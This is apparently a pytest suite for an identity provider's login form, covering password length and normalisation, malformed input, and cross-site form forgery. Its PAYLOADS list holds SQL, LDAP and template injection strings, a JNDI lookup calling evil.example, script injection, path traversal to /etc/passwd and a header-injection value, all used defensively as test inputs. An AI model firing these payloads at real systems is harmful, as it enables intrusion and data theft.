"""SECURITY-CASES, rows LG, what the password form is sent: sizes, characters, payloads, forged forms. By the ids of the rows."""

from __future__ import annotations

import unicodedata
from urllib.parse import urlencode

import argon2
import pytest

from tests.flows.journeys import (
    FAILED,
    MINUTE,
    PASSWORD,
    go_to,
    try_password,
)
from tests.support.dump import untouched
from tests.support.house import House
from tests.support.person import Person, login_of

WRONG = "not the password at all"


PASSWORDS = [
    "six small geese swim in the mill pond",
    "  blanks at both ends count too  ",
    "пароль из нескольких русских слов",
    "four 🦜🦜🦜🦜 birds on a wire",
    "e" * 3 + "ight unrelated words make sixty-four characters, as it does her",
    "quotes ' \" and <tags> & percent %41 + plus",
    "tabs\tare\tcharacters as well",
]


@pytest.mark.parametrize("password", [*PASSWORDS, "x7 Qv9-" * 36 + "last"])
async def test_LG11_a_password_counts_to_its_last_character(house: House, password: str) -> None:
    assert len(password) <= 256
    mail = await house.mail_to("iris@demo.example")
    journey = await go_to(house.portal("inbound"), house.person())
    await journey.give_password("iris", mail.password)
    await journey.press(new_password=password)
    await journey.arrived()
    assert (await try_password(house, "iris", password)).tab.has_arrived
    for other in (password[:-1], password + " ", password.swapcase(), " " + password):
        if other != password:
            assert FAILED in (await try_password(house, "iris", other)).page.errors
            house.clock.advance(5 * MINUTE)


async def test_LG11_a_password_is_the_same_on_every_keyboard(house: House) -> None:
    """NFKC: what one system composes and another does not, or writes full-width, is one password."""
    mail = await house.mail_to("iris@demo.example")
    journey = await go_to(house.portal("inbound"), house.person())
    await journey.give_password("iris", mail.password)
    chosen = "Ｚoë ate ﬁve crêpes in Malmö"
    await journey.press(new_password=chosen)
    await journey.arrived()
    assert (await try_password(house, "iris", unicodedata.normalize("NFD", chosen))).tab.has_arrived


@pytest.mark.parametrize("length", [257, 5000])
async def test_LG11_what_is_too_long_is_refused_before_it_is_hashed(
    house: House, monkeypatch: pytest.MonkeyPatch, length: int
) -> None:
    def never(*_: object) -> bool:
        raise AssertionError("hashed")

    monkeypatch.setattr(argon2.PasswordHasher, "verify", never)
    monkeypatch.setattr(argon2.PasswordHasher, "hash", never)
    for username in ("dana", "nobody"):
        tried = await try_password(house, username, "x" * length)
        assert (tried.page.status, FAILED in tried.page.errors) == (400, True)


@pytest.mark.parametrize(
    ("password", "status"),
    [("a%00b", 400), ("%ED%A0%80", 400), ("%FF%FE", 400), ("%C0%AF", 400), ("x" * 9000, 400), ("x" * 1_000_000, 413)],
)
async def test_LG11_what_is_no_text_or_no_password_is_refused(house: House, password: str, status: int) -> None:
    person = house.person()
    journey = await go_to(house.portal("inbound"), person)
    url = f"{house.issuer}/sign-in/{login_of(journey.page)}/password"
    headers = {"sec-fetch-site": "same-origin", "content-type": "application/x-www-form-urlencoded"}
    async with untouched(house):
        answer = await person.http.post(url, content=f"username=dana&password={password}", headers=headers)
    assert answer.status_code == status
    assert 'id="error-page"' in answer.text
    assert "location" not in answer.headers


PAYLOADS = [
    "' OR '1'='1' --",
    "dana'; DROP TABLE users; --",
    "*)(uid=*))(|(uid=*",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n%d{0}{username}",
    '"><script>alert(1)</script>',
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "dana\r\nSet-Cookie: idp-session=x",
    "dana\x1b[31m",
    "x" * 8000,
    "​",
    "ﷺ" * 500,
]


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_LG12_payloads_in_the_username_are_just_unknown_names(either_house: House, payload: str) -> None:
    journey = await go_to(either_house.portal("inbound"), either_house.person())
    async with untouched(either_house):
        await journey.give_password(payload, WRONG)
    assert journey.page.status == 400
    assert journey.page.errors
    assert "error-page" not in journey.page.ids


class TestLG14LoginCrossSiteRequestForgery:
    async def outcome(self, house: House, person: Person, token: str | None = None, **headers: str) -> int:
        """The status of a password form posted with these headers and this form token (None: the page's own is left out)."""
        journey = await go_to(house.portal("inbound"), person)
        url = f"{house.issuer}/sign-in/{login_of(journey.page)}/password"
        pairs = [("username", "dana"), ("password", PASSWORD)]
        if token is not None:
            pairs.append(("form_token", journey.page.fields()["form_token"] if token == "own" else token))
        sent = {"content-type": "application/x-www-form-urlencoded"}
        sent |= {name.replace("_", "-"): value for name, value in headers.items()}
        before = person.cookies
        answer = await person.http.post(url, content=urlencode(pairs), headers=sent)
        assert (answer.status_code == 303) or person.cookies == before
        if answer.status_code != 303:
            assert 'id="error-page"' in answer.text
            assert "location" not in answer.headers
        return answer.status_code

    @pytest.mark.parametrize(
        "headers",
        [
            {"sec_fetch_site": "cross-site"},
            {"sec_fetch_site": "same-site"},
            {"sec_fetch_site": "cross-site", "origin": "null"},
            {"origin": "https://evil.example"},
            {"origin": "http://localhost.evil.example"},
            {"origin": "null"},
            {},
        ],
    )
    async def test_LG14_a_form_from_elsewhere_is_refused(self, house: House, headers: dict[str, str]) -> None:
        person = house.person()
        async with untouched(house, "+logins"):
            assert await self.outcome(house, person, **headers) == 403
        assert "idp-session" not in person.cookies

    @pytest.mark.parametrize("headers", [{"sec_fetch_site": "cross-site"}, {"origin": "https://evil.example"}])
    async def test_LG14_a_form_token_does_not_outweigh_what_the_browser_says(
        self, house: House, headers: dict[str, str]
    ) -> None:
        assert await self.outcome(house, house.person(), "own", **headers) == 403

    async def test_LG14_the_form_token_of_another_browser_is_none(self, house: House) -> None:
        attackers = await go_to(house.portal("inbound"), house.person())
        token = attackers.page.fields()["form_token"]
        assert await self.outcome(house, house.person(), token) == 403
        assert await self.outcome(house, house.person(), token, origin="null") == 403

    @pytest.mark.parametrize(
        ("token", "headers"),
        [
            (None, {"sec_fetch_site": "same-origin", "origin": "null"}),  # Chromium under `no-referrer`
            (None, {"sec_fetch_site": "none"}),
            ("own", {"origin": "null"}),
            ("own", {}),
        ],
    )
    async def test_LG14_a_form_of_our_own_is_taken(
        self, house: House, token: str | None, headers: dict[str, str]
    ) -> None:
        assert await self.outcome(house, house.person(), token, **headers) == 303

    async def test_LG14_an_old_browser_signs_in_by_the_form_token(self, house: House) -> None:
        person = house.person(fetch_metadata=False)
        journey = await go_to(house.portal("sip-trunk-plus"), person)
        await journey.give_password("sam")
        await journey.press(code=(await house.text_to("+447700900118")).code)
        assert (await journey.arrived()).amr == ["pwd", "sms", "mfa"]
